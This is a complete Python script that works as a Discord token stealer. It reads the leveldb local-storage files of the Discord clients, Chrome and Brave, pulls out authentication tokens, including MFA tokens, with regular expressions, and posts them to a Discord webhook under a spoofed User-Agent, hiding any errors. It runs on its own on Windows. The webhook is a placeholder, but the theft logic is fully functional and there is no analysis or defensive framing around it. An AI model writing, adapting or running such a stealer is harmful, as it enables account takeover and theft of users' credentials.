import os
import re
import json
from urllib.request import Request, urlopen

__version__ = "1.0.0"
WEBHOOK_URL = "https://discord.com/api/webhooks/000000000000000001/FAKE-webhook-FAKE"
PING_ME = False


def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    for file_name in os.listdir(path):
        if not file_name.endswith(".log") and not file_name.endswith(".ldb"):
            continue
        for line in [x.strip() for x in open(f"{path}\\{file_name}", errors="ignore").readlines() if x.strip()]:
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                for token in re.findall(regex, line):
                    tokens.append(token)
    return tokens


def main():
    local = os.getenv("LOCALAPPDATA")
    roaming = os.getenv("APPDATA")
    paths = {
        "Discord": roaming + "\\Discord",
        "Discord Canary": roaming + "\\discordcanary",
        "Google Chrome": local + "\\Google\\Chrome\\User Data\\Default",
        "Brave": local + "\\BraveSoftware\\Brave-Browser\\User Data\\Default",
    }
    message = "@everyone" if PING_ME else ""
    for platform, path in paths.items():
        if not os.path.exists(path):
            continue
        message += f"\n**{platform}**\n```\n"
        tokens = find_tokens(path)
        message += "\n".join(tokens) if tokens else "No tokens found."
        message += "```"
    headers = {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0 (X11; U; Linux i686) Gecko/20071127"}
    payload = json.dumps({"content": message})
    try:
        req = Request(WEBHOOK_URL, data=payload.encode(), headers=headers)
        urlopen(req)
    except Exception:
        pass


if os.name == "nt":
    main()
